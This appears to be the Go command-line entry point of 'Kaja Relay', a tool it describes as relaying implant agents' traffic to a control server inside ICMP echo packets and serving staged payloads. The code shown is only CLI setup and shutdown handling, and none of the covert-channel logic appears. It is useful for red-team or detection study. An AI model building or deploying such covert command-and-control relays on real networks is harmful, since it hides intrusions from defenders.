// Package main provides the CLI entry point for the Kaja Relay server.
package main

import (
	"context"
	"fmt"
	"os"
	"os/signal"
	"syscall"
	"time"

	"github.com/spf13/cobra"

	"github.com/postalsys/kaja-relay/internal/config"
	"github.com/postalsys/kaja-relay/internal/logging"
	"github.com/postalsys/kaja-relay/internal/metrics"
	"github.com/postalsys/kaja-relay/internal/relay"
	"github.com/postalsys/kaja-relay/internal/sysinfo"
	"github.com/postalsys/kaja-relay/internal/wizard"
)

var (
	// Version is set at build time
	Version = "dev"
)

func init() {
	// Sync version with sysinfo for consistency across the codebase
	if Version == "dev" {
		Version = sysinfo.Version
	} else {
		sysinfo.Version = Version
	}
}

func main() {
	rootCmd := &cobra.Command{
		Use:   "kaja-relay",
		Short: "Kaja Relay - ICMP covert channel relay",
		Long: `Kaja Relay bridges implant agents and their control server over ICMP.

Agents hide their traffic inside Echo Request payloads; the relay
reassembles each checkin, forwards it to the backend control server
over TCP, and fragments the response back across Echo Replies. Payload
requests are answered with the staged payload fetched from the backend.`,
		Version: Version,
	}

	// Add subcommands
	rootCmd.AddCommand(initCmd())
	rootCmd.AddCommand(runCmd())
	rootCmd.AddCommand(probeCmd())
	rootCmd.AddCommand(listenCmd())
	rootCmd.AddCommand(statusCmd())
	rootCmd.AddCommand(hashCmd())

	if err := rootCmd.Execute(); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func initCmd() *cobra.Command {
	return &cobra.Command{
		Use:   "init",
		Short: "Create a configuration interactively",
		Long:  "Walk through an interactive wizard and write a relay configuration file.",
		RunE: func(cmd *cobra.Command, args []string) error {
			_, err := wizard.New().Run()
			return err
		},
	}
}

func runCmd() *cobra.Command {
	var configPath string

	cmd := &cobra.Command{
		Use:   "run",
		Short: "Run the relay",
		Long:  "Start the relay with the specified configuration.",
		RunE: func(cmd *cobra.Command, args []string) error {
			// Load configuration
			cfg, err := config.Load(configPath)
			if err != nil {
				return fmt.Errorf("failed to load config: %w", err)
			}

			logger := logging.NewLogger(cfg.Relay.LogLevel, cfg.Relay.LogFormat)

			r := relay.New(cfg, logger, metrics.Default())

			fmt.Printf("Starting Kaja Relay %s...\n", Version)

			if err := r.Start(); err != nil {
				return fmt.Errorf("failed to start relay: %w", err)
			}

			fmt.Printf("Listening:  %s on %s\n", cfg.Listen.Network, cfg.Listen.Address)
			fmt.Printf("Backend:    %s\n", cfg.Backend.Address)
			fmt.Printf("Tag:        %s\n", cfg.Relay.Tag)
			if cfg.HTTP.Enabled {
				fmt.Printf("HTTP:       %s\n", cfg.HTTP.Address)
			}

			// Wait for shutdown signal
			sigCh := make(chan os.Signal, 1)
			signal.Notify(sigCh, syscall.SIGINT, syscall.SIGTERM)

			sig := <-sigCh
			fmt.Printf("\nReceived signal %v, shutting down...\n", sig)

			// Graceful shutdown with timeout
			ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
			defer cancel()

			if err := r.StopWithContext(ctx); err != nil {
				fmt.Printf("Shutdown error: %v\n", err)
				return err
			}

			fmt.Println("Relay stopped.")
			return nil
		},
	}

	cmd.Flags().StringVarP(&configPath, "config", "c", "./config.yaml", "Path to configuration file")

	return cmd
}
